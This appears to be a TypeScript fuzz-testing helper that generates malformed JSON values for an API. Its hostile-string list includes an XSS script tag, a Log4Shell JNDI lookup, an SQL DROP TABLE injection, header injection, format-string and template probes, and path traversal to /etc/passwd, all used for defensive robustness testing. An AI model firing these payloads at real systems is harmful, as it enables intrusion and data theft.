import type { Random } from './random.ts';

/** The text of an API key in an unexpected place: no error response may contain its secret. */
export const HOSTILE_KEY = `vtg_abcd1234_${'Sec-ret'.repeat(6)}_`;

/** Strings that parsers, logs, pages or shells may handle wrongly. */
const hostileStrings: readonly string[] = [
  '',
  ' ',
  '\0',
  '\r\nX-Injected: 1',
  '"><script>alert(1)</script>',
  '${jndi:ldap://203.0.113.1/a}',
  "'; DROP TABLE checks; --",
  '../../../../etc/passwd',
  '%00%0d%0a',
  '%c0%ae%c0%ae/',
  '\u202egnp.exe',
  '\ud800',
  '\u{1f4a9}'.repeat(300),
  'a'.repeat(10_000),
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '1e309',
  '-0',
  'NaN',
  'null',
  'undefined',
  '[object Object]',
  '{{7*7}}',
  '%s%s%n',
  '*',
  'check:{x}',
  '127.0.0.1',
  'http://[::1]/',
  HOSTILE_KEY,
  'file:///etc/passwd',
];

const hostileNumbers: readonly number[] = [
  -1,
  0,
  0.5,
  65_536,
  2 ** 31,
  2 ** 53,
  -(2 ** 53),
  1e21,
  1e308,
  -1e308,
  5e-324,
];

/** An unexpected value of any JSON type. */
export function hostileValue(random: Random, depth = 0): unknown {
  switch (random.below(depth > 3 ? 4 : 7)) {
    case 0:
      return random.pick(hostileStrings);
    case 1:
      return random.pick(hostileNumbers);
    case 2:
      return random.pick([true, false, null]);
    case 3:
      return random.pick([[], {}]);
    case 4:
      return Array.from({ length: random.below(6) }, () => hostileValue(random, depth + 1));
    case 5:
      return Array.from({ length: 200 + random.below(2_000) }, () => random.below(10));
    default:
      return Object.fromEntries(
        Array.from({ length: random.below(5) }, (_, index): [string, unknown] => [
          random.chance(0.5) ? random.pick(hostileStrings).slice(0, 200) : `k${index}`,
          hostileValue(random, depth + 1),
        ]),
      );
  }
}

export function hostileString(random: Random): string {
  return random.pick(hostileStrings);
}
